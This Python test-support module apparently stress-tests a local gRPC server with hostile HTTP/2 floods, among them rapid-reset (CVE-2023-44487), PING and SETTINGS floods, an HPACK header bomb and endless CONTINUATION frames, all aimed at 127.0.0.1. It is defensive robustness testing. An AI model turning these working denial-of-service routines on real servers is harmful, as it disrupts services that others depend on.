"""Hostile HTTP/2 connections, made of raw frames: `python -m tests.support.floods KIND PORT COUNT` runs two threads.

A program of its own, so that the honest caller beside it has an interpreter to themselves. It ends when the server has
seen COUNT hostile acts, or after SECONDS; it connects again when the server closes a connection; and it prints, as
JSON, what it has done.
"""

import itertools
import json
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

from bench.http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    FIRST_WINDOW,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    common_headers,
    frame,
    literal,
)

CONTINUATION = 9
CANCEL = 8
THREADS = 2
SECONDS = 20.0
BATCH = 100  # hostile acts per write
LAST = b"the last"
GET_STREAM = common_headers("/livestream.v1.LiveStreamService/GetStream")
CHECK = common_headers("/grpc.health.v1.Health/Check")  # anybody is answered with a message


def resets(streams: Iterator[int]) -> bytes:
    """A call, and its cancellation at once (CVE-2023-44487)."""
    stream = next(streams)
    return frame(HEADERS, END_HEADERS, stream, GET_STREAM) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))


def resets_of_whole_calls(streams: Iterator[int]) -> bytes:
    """A call that is there to its end, so that its handler may begin, and its cancellation."""
    stream = next(streams)
    return (
        frame(HEADERS, END_HEADERS, stream, GET_STREAM)
        + frame(DATA, END_STREAM, stream, bytes(5))
        + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))
    )


def pings(_streams: Iterator[int]) -> bytes:
    """The server must answer each."""
    return frame(PING, 0, 0, bytes(8))


def settings(_streams: Iterator[int]) -> bytes:
    """The server must apply and acknowledge each."""
    return frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + FIRST_WINDOW.to_bytes(4))


def header_bombs(streams: Iterator[int]) -> bytes:
    """A header of 3,900 bytes goes into the table, and is then repeated at one byte each: 16 MB in 8 KiB."""
    kept = b"\x40" + literal(b"x-bomb", b"a" * 3900)[1:]  # RFC 7541, 6.2.1: into the table
    return frame(HEADERS, END_HEADERS, next(streams), GET_STREAM + kept + 4096 * b"\xbe")  # 6.1: the newest there


def endless_headers(streams: Iterator[int]) -> bytes:
    """One block of headers in a hundred CONTINUATION frames, none of which is the last."""
    stream = next(streams)
    more = frame(CONTINUATION, 0, stream, literal(b"x-more", b"a" * 1000))
    return frame(HEADERS, 0, stream, GET_STREAM) + 100 * more


def closed_windows(streams: Iterator[int]) -> bytes:
    """A call whose answer there is no room for: the connection began with a window of 0."""
    stream = next(streams)
    return frame(HEADERS, END_HEADERS, stream, CHECK) + frame(DATA, END_STREAM, stream, bytes(5))


KINDS: dict[str, Callable[[Iterator[int]], bytes]] = {
    each.__name__: each
    for each in (resets, resets_of_whole_calls, pings, settings, header_bombs, endless_headers, closed_windows)
}


class Flood:
    """What both threads do, and have done."""

    def __init__(self, kind: str, port: int, count: int) -> None:
        self._kind = kind
        self._port = port
        self._left = count
        self._until = time.monotonic() + SECONDS
        self._lock = threading.Lock()
        self.acts = self.connections = self.closed = 0

    def run(self) -> None:
        """Attack over one connection after another."""
        while self._left and time.monotonic() < self._until:
            try:
                with socket.create_connection(("127.0.0.1", self._port), 5) as sock:
                    self._count(connections=1)
                    self._attack(sock)
            except OSError:
                self._count(closed=1)

    def _attack(self, sock: socket.socket) -> None:
        """Raises OSError if the server closes the connection."""
        window = 0 if self._kind == closed_windows.__name__ else FIRST_WINDOW
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + window.to_bytes(4)))
        sock.sendall(frame(SETTINGS, ACK, 0, b""))  # for those that the server is about to send
        reader = threading.Thread(target=self._read_to_the_last, args=(sock,))
        reader.start()
        try:
            streams = itertools.count(1, 2)
            while time.monotonic() < self._until and (count := self._take()):
                sock.sendall(b"".join(KINDS[self._kind](streams) for _ in range(count)))
                self._count(acts=count)
            sock.sendall(frame(PING, 0, 0, LAST))
        finally:
            reader.join(SECONDS)

    def _read_to_the_last(self, sock: socket.socket) -> None:
        """Read, so that the server never waits for us, until it answers the last ping or closes."""
        seen = b""
        try:
            while LAST not in seen and (data := sock.recv(65_536)):
                seen = seen[-len(LAST) :] + data
        except OSError:
            pass

    def _take(self) -> int:
        """How many acts to do next; 0 when all are done."""
        with self._lock:
            taken = min(BATCH, self._left)
            self._left -= taken
            return taken

    def _count(self, *, acts: int = 0, connections: int = 0, closed: int = 0) -> None:
        with self._lock:
            self.acts += acts
            self.connections += connections
            self.closed += closed


def main() -> None:
    since = time.monotonic()
    flood = Flood(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
    threads = [threading.Thread(target=flood.run) for _ in range(THREADS)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    done = {"acts": flood.acts, "connections": flood.connections, "closed": flood.closed}
    print(json.dumps(done | {"seconds": round(time.monotonic() - since, 1)}))


if __name__ == "__main__":
    main()
